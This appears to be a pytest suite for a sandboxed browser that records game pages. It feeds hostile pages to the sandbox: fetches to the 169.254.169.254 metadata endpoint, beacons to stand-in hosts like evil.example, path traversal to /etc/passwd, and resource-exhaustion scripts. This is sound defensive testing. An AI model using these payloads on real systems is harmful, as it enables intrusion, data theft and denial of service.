"""Pages that attack whoever films them harm their own film, and nothing else."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from services.packager.film.studio.console import MEND, MEND_EARLY
from services.packager.film.studio.errors import (
    FilmError,
    FilmNeverReadyError,
    FilmPageError,
    FilmTooHeavyError,
)
from services.packager.film.studio.shot import FramesDone, PreviewTaken
from tests.hostile.film_pages import Location

if TYPE_CHECKING:
    import random
    from collections.abc import Callable, Iterator

ROOT = Path(__file__).parents[2]
FRAMES = 6
MIB = 1 << 20


@pytest.fixture
def location(tmp_path: Path) -> Iterator[Location]:
    """Nothing of a film is left when its test ends, however that is."""
    here = Location(tmp_path)
    yield here
    assert here.left() == []


def at(frame: int, script: str) -> str:
    """A page that does this before a frame is drawn."""
    return (
        f"<script>globalThis.draw = async (n) => {{ if (n === {frame}) {{ {script} }} }}</script>"
    )


async def test_a_page_is_filmed(location: Location) -> None:
    """Frames are counted, and there is a picture of one; the file has them all."""
    taken = await location.film("<p>a game", count=FRAMES)
    assert taken.path == location.results / "slice.mkv"
    assert (taken.frames, taken.kind) == (FRAMES, "html5")
    assert taken.size_bytes == taken.path.stat().st_size > 0
    assert "llvmpipe" in taken.renderer
    assert taken.luma_max > 0.1
    assert taken.difference_max > 0
    assert location.notes == []
    done = [news.done for news in location.told if isinstance(news, FramesDone)]
    assert done == sorted(done)
    assert done[-1] == FRAMES
    assert any(isinstance(news, PreviewTaken) for news in location.told)


async def test_sound_is_taken(location: Location) -> None:
    """Planes of float32, as many samples as the film has."""
    taken = await location.film("<p>a game", kind="sound")
    assert taken.path.name == "sound.f32"
    assert taken.frames == round(FRAMES * 1_001 / 30_000 * 48_000)
    assert taken.size_bytes == 8 * taken.frames


FAULTS = {
    "throws": ("<script>\n\nstart();</script>", "index.html:3:1", "start is not defined"),
    "rejects": ("<script>Promise.reject(new Error('no luck'))</script>", "index.html:1", "no luck"),
    "logs": ("<script>console.error('no level', 7)</script>", "index.html:1", "no level 7"),
    "throws later": (at(2, "missing()"), "index.html:1", "missing is not defined"),
    "shader": (
        at(2, "console.error('THREE.WebGLProgram: Shader Error 1282', 'ERROR: 0:7')"),
        "index.html:1",
        "Shader Error 1282 ERROR: 0:7",
    ),
}


@pytest.mark.parametrize("fault", FAULTS)
async def test_a_page_that_fails_says_where(location: Location, fault: str) -> None:
    """The console's line, its place in the project, and what to do."""
    page, place, text = FAULTS[fault]
    with pytest.raises(FilmPageError) as caught:
        await location.film(page)
    assert caught.value.code == "film-page-error"
    assert place in str(caught.value)
    assert text in str(caught.value)
    remedy = MEND_EARLY if fault == "logs" else MEND
    assert str(caught.value).endswith(f". {remedy}")


@pytest.mark.parametrize("script", ["console.error('odd')", "console.warn('odd')"])
async def test_what_is_only_odd_is_a_note(location: Location, script: str) -> None:
    """Once the game runs."""
    await location.film(at(2, script))
    assert location.notes == ["the game's console: odd"]


ENDLESS = {
    "waits": (
        "<script>notReady = 'its level'</script>",
        "it waits for its level, which has to come without a server or a click",
    ),
    "says nothing": ("<script>notReady = ['']</script>", "in a browser and touch nothing"),
    "loops": ("<script>for (;;);</script>", "without end"),
    "loops when loaded": ("<script>onload = () => { for (;;); }</script>", "without end"),
}


@pytest.mark.parametrize("way", ENDLESS)
async def test_a_page_that_never_begins(location: Location, way: str) -> None:
    """What it was waiting for is told."""
    page, text = ENDLESS[way]
    with pytest.raises(FilmNeverReadyError, match=text) as caught:
        await location.film(page, limits={"ready_s": 1.0})
    assert caught.value.code == "film-never-ready"


async def test_a_page_that_stands_still_on_its_way(location: Location) -> None:
    """Its way may be long, as long as it goes on; where it does not, that is told."""
    page = "<script>notReady = 'its level'; let steps = 3; goesOn = () => steps-- > 0</script>"
    with pytest.raises(FilmNeverReadyError, match=r"on the way to frame 0.*waits for its level"):
        await location.film(page, limits={"ready_s": 5.0})


ELSEWHERE = {
    "http://169.254.169.254": "fetch('http://169.254.169.254/latest/meta-data').catch(() => 0)",
    "http://localhost:4222": "fetch('http://localhost:4222/').catch(() => 0)",
    "http://[::1]": "fetch('http://[::1]/').catch(() => 0)",
    "https://example.com": "fetch('https://example.com/').catch(() => 0)",
    "ws://10.0.0.1": "new WebSocket('ws://10.0.0.1/')",
    "https://evil.example": "new WebSocket('wss://evil.example/')",
    "http://beacon.example": "navigator.sendBeacon('http://beacon.example/', 'x')",
    "http://image.example": "new Image().src = 'http://image.example/x.png'",
}


async def test_there_is_no_network(location: Location, rng: random.Random) -> None:
    """Every host is told of once; nobody is asked, by no way."""
    chosen = rng.sample(sorted(ELSEWHERE), 4)
    scripts = ";".join(ELSEWHERE[host] for host in chosen)
    page = f"<script>{scripts};{scripts}</script><script>{_WEBRTC}</script>"
    await location.film(page)
    told = [note for note in location.notes if "no network" in note]
    assert sorted(host for host in chosen if any(f"{host};" in note for note in told)) == sorted(
        chosen
    )
    assert len(told) == len(chosen)


_WEBRTC = """
const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:stun.example.org:3478" }] });
peer.createDataChannel("x");
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
"""


async def test_webrtc_finds_no_way_out(location: Location) -> None:
    """It learns not even an address of ours."""
    page = f"""<script>{_WEBRTC}
    peer.onicecandidate = ({{ candidate }}) => candidate?.candidate && console.error("FOUND");
    draw = () => peer.localDescription?.sdp.includes("a=candidate") && console.error("FOUND");
    </script>"""
    await location.film(page)
    assert not [note for note in location.notes if "FOUND" in note]


async def test_the_sites_own_files_alone(location: Location, tmp_path: Path) -> None:
    """No path leads out of the site, whether it is written or linked."""
    (tmp_path / "secret.txt").write_text("another tenant's secret")
    (location.site / "link.txt").symlink_to(tmp_path / "secret.txt")
    paths = [
        "../secret.txt",
        "%2e%2e/secret.txt",
        "..%2fsecret.txt",
        "link.txt",
        "%00",
        "a\\\\..\\\\",
    ]
    paths += ["//secret.txt", "file:///etc/passwd"]
    page = f"""<script>draw = async (n) => {{
      if (n) return;
      for (const path of {paths!r})
        await fetch(path).then((got) => got.text().then((text) =>
          (got.ok || text.includes("secret")) && console.error("GOT", path, text)), () => 0);
    }}</script>"""
    await location.film(page)
    assert not [note for note in location.notes if "GOT" in note]


HEAVY: dict[str, tuple[str, str, dict[str, Any]]] = {
    "memory": (
        "memory",
        at(
            1,
            "const a = []; for (;;) try { a.push(new Uint8Array(1 << 25).fill(7)) } catch { break }"
            "await new Promise((resolve) => setTimeout(resolve, 1e6))",
        ),
        {"memory_bytes": 900 * MIB},
    ),
    "frame": ("time", at(2, "for (;;);"), {"frame_s": 2.0}),
    "shot": ("time", "<script>notReady = 'ever'</script>", {"shot_s": 4.0}),
    "workers": (
        "workers",
        (
            "<script>const url = URL.createObjectURL(new Blob(['for (;;);']));"
            "onload = () => { for (let n = 0; n < 500; n++) new Worker(url); };"
            "notReady = 'them'</script>"
        ),
        {},
    ),
    "threads": ("processes", "<script>notReady = 'ever'</script>", {"threads": 20}),
    "files": (
        "files",
        (
            "<script>notReady = 'files'; (async () => {"
            "const folder = await navigator.storage.getDirectory();"
            "for (let n = 0; n < 1e5; n++) await folder.getFileHandle('f' + n, { create: true });"
            "})()</script>"
        ),
        {"files": 500},
    ),
    "disk": (
        "disk",
        (
            "<script>notReady = 'disk'; (async () => {"
            "const folder = await navigator.storage.getDirectory();"
            "const file = await folder.getFileHandle('big', { create: true });"
            "const writing = await file.createWritable();"
            "for (;;) await writing.write(new Uint8Array(1 << 24)); })()</script>"
        ),
        {"disk_bytes": 100 * MIB},
    ),
}


@pytest.mark.parametrize("way", HEAVY)
async def test_a_page_gets_no_more_than_it_may(location: Location, way: str) -> None:
    """The limit that is met is named."""
    what, page, limits = HEAVY[way]
    with pytest.raises(FilmTooHeavyError, match=f"more {what} than") as caught:
        await location.film(page, limits=limits)
    assert caught.value.code == "film-too-heavy"


LEAVING = {
    "dialogs": (at(1, "for (;;) alert('hello')"), "one dialog after another"),
    "windows": (at(1, "for (let n = 0; n < 200; n++) open('about:blank')"), "one window after"),
    "elsewhere": (
        at(1, "location = 'https://example.com/'; await new Promise(() => 0)"),
        "https://example.com/",
    ),
    "at once": ("<script>location = 'https://example.com/'</script>", "https://example.com/"),
    "again": (at(1, "location.reload(); await new Promise(() => 0)"), "loaded anew"),
}


@pytest.mark.parametrize("way", LEAVING)
async def test_a_page_that_does_not_stay(location: Location, way: str) -> None:
    """Nobody answers it, and nobody follows it."""
    page, text = LEAVING[way]
    with pytest.raises(FilmPageError, match=text):
        await location.film(page)


@pytest.mark.parametrize(
    "script",
    [
        "alert('hello')",
        "confirm('sure?')",
        "open('about:blank')",
        "window.close()",
        "location = 'file:///etc/passwd'",
        "const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x'; a.click()",
        "print()",
    ],
)
async def test_what_nobody_answers_is_told_and_does_no_harm(
    location: Location, script: str
) -> None:
    """The film goes on."""
    taken = await location.film(at(1, script))
    assert taken.frames == FRAMES


@pytest.mark.parametrize(
    "script",
    ["location = 'game/'", "notReady = 'it'; setTimeout(() => (location = 'game/'), 300)"],
)
async def test_a_page_may_lead_to_its_own(location: Location, script: str) -> None:
    """Before it begins: that page is filmed."""
    (location.site / "game").mkdir()
    (location.site / "game/index.html").write_text("<p>the game")
    taken = await location.film(f"<script>{script}</script>")
    assert taken.frames == FRAMES


DISTURBING = {
    "slot": at(2, """__filmFrame('{"slot": 99, "index": 2}')"""),
    "negative": at(2, """__filmFrame('{"slot": -1, "index": 2}')"""),
    "index": at(2, """__filmFrame('{"slot": 0, "index": 77}')"""),
    "garbage": at(2, "__filmFrame('garbage')"),
    "long": at(2, "__filmFrame('x'.repeat(1e6))"),
    "flood": at(2, "for (let n = 0; n < 1e4; n++) __filmFrame('{}')"),
    "decoy": """<script>draw = async (n) => {
      if (n) return;
      const folder = await navigator.storage.getDirectory();
      const file = await folder.getFileHandle("decoy", { create: true });
      const writing = await file.createWritable();
      await writing.truncate(4 * 64 * 36 * 3 / 2);
      await writing.close();
    }</script>""",
}


@pytest.mark.parametrize("way", DISTURBING)
async def test_a_page_that_disturbs_the_camera(location: Location, way: str) -> None:
    """Nothing that it says is believed."""
    with pytest.raises(FilmPageError, match="disturbs the camera"):
        await location.film(DISTURBING[way])


async def test_a_page_cannot_take_the_camera_away(location: Location) -> None:
    """It is no property that can be changed."""
    page = "<script>delete globalThis.__filmCamera; globalThis.__filmCamera = null;</script>"
    assert (await location.film(page)).frames == FRAMES


async def test_a_page_that_takes_the_binding_away(location: Location) -> None:
    """No frame comes any more."""
    with pytest.raises(FilmError):
        await location.film(at(2, "globalThis.__filmFrame = () => 0"), limits={"frame_s": 5.0})


async def test_a_console_without_end(location: Location) -> None:
    """Its first lines are looked at, and few of them told; long ones are cut or passed over."""
    page = at(1, "for (let n = 0; n < 5000; n++) console.warn('w' + n + 'x'.repeat(2000))")
    taken = await location.film(page)
    assert taken.frames == FRAMES
    assert len(location.notes) <= 20
    assert all(len(note) <= 500 for note in location.notes)
    assert any("lines" in note for note in location.notes)


async def test_a_line_of_any_length(location: Location) -> None:
    """Megabytes of one line are passed over, and told."""
    taken = await location.film(at(1, "console.warn('w'.repeat(2e7))"))
    assert taken.frames == FRAMES
    assert any("passed over" in note for note in location.notes)


NUISANCES = [
    *ELSEWHERE.values(),
    "console.warn('w'.repeat(1e5))",
    "for (let n = 0; n < 300; n++) console.log(n, {})",
    "alert('hello')",
    "open('about:blank')",
    "window.close()",
    "new Worker(URL.createObjectURL(new Blob(['for (;;);'])))",
    "setInterval(() => history.pushState(0, '', '#' + Math.random()), 5)",
    "document.body.append(Object.assign(document.createElement('iframe'), { src: '/none' }))",
    "navigator.storage.getDirectory().then((d) => d.getFileHandle('mine', { create: true }))",
    "crypto.subtle.digest('SHA-256', new Uint8Array(1 << 24))",
]


async def test_nuisances_at_once(
    location: Location, rng: random.Random, rounds: Callable[[int], Iterator[int]]
) -> None:
    """Whatever comes together and in whatever order: there is a film, or a reason why not."""
    for number in rounds(1):
        results = location.results = location.folder / f"results-{number}"
        results.mkdir()
        frames = [rng.randrange(FRAMES) for _ in range(4)]
        scripts = [f"if (n === {n}) {{ {rng.choice(NUISANCES)} }}" for n in frames]
        page = f"<body><script>globalThis.draw = (n) => {{ {' '.join(scripts)} }}</script>"
        with suppress(FilmError):
            assert (await location.film(page)).frames == FRAMES, page
        assert location.left() == []


async def test_a_crash_is_no_verdict(location: Location) -> None:
    """Nobody knows whose fault it is: another attempt may succeed."""
    killed = False

    def kill(_: object) -> None:
        nonlocal killed
        if not killed:
            killed = _kill_renderers(location)

    with pytest.raises(Exception, match=r"crashed|died") as caught:
        await location.film(
            "<script>draw = () => new Promise((go) => setTimeout(go, 200))</script>",
            tell=kill,
        )
    assert (getattr(caught.value, "code", ""), killed) == ("film-browser-died", True)


def _kill_renderers(location: Location) -> bool:
    renderers: list[int] = []
    for name in location.processes():
        with suppress(OSError):
            if b"--type=renderer" in Path(f"/proc/{name}/cmdline").read_bytes():
                renderers.append(int(name))
    for pid in renderers:
        os.kill(pid, signal.SIGKILL)
    return bool(renderers)


async def test_a_cancel_leaves_nothing(location: Location) -> None:
    """Within a second of it, or of the time that the machine takes for its kills."""
    filming = asyncio.create_task(location.film(at(3, "await new Promise(() => 0)")))
    while not any(isinstance(news, FramesDone) for news in location.told):
        await asyncio.sleep(0.02)
        assert not filming.done()
    filming.cancel()
    with pytest.raises(asyncio.CancelledError):
        await filming
    assert location.left() == []


PACKAGER = """
import asyncio, sys
from pathlib import Path
from tests.hostile.film_pages import Location
location = Location(Path(sys.argv[1]))
page = "<script>draw = (n) => n < 3 ? 0 : new Promise(() => 0)</script>"
asyncio.run(location.film(page, tell=lambda news: print("told", flush=True)))
"""


@pytest.mark.parametrize("victim", ["packager", "keeper", "crew", "browser"])
def test_nothing_outlives_a_kill(tmp_path: Path, victim: str) -> None:
    """Whoever is killed, and nobody has a moment for anything."""
    packager = subprocess.Popen(
        [sys.executable, "-c", PACKAGER, str(tmp_path)],
        cwd=ROOT,
        env=os.environ | {"PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    )
    assert packager.stdout is not None
    try:
        assert packager.stdout.readline() == b"told\n"
        processes = _family(packager.pid)
        os.kill(processes[victim], signal.SIGKILL)
        _wait_until(lambda: not any(map(_lives, processes.values())))
    finally:
        packager.kill()
        packager.wait()
        packager.stdout.close()


def _family(packager: int) -> dict[str, int]:
    """The packager, the keeper, its crew, and the browser that this has started."""
    keeper = _children(packager)[0]
    crew = _children(keeper)[0]
    return {"packager": packager, "keeper": keeper, "crew": crew, "browser": _children(crew)[0]}


def _children(pid: int) -> list[int]:
    found: list[int] = []
    for thread in Path(f"/proc/{pid}/task").iterdir():
        found += map(int, (thread / "children").read_text().split())
    return found


def _lives(pid: int) -> bool:
    with suppress(OSError):
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    return False


def _wait_until(condition: Callable[[], bool]) -> None:
    ends_s = time.monotonic() + 120
    while not condition():
        assert time.monotonic() < ends_s
        time.sleep(0.05)
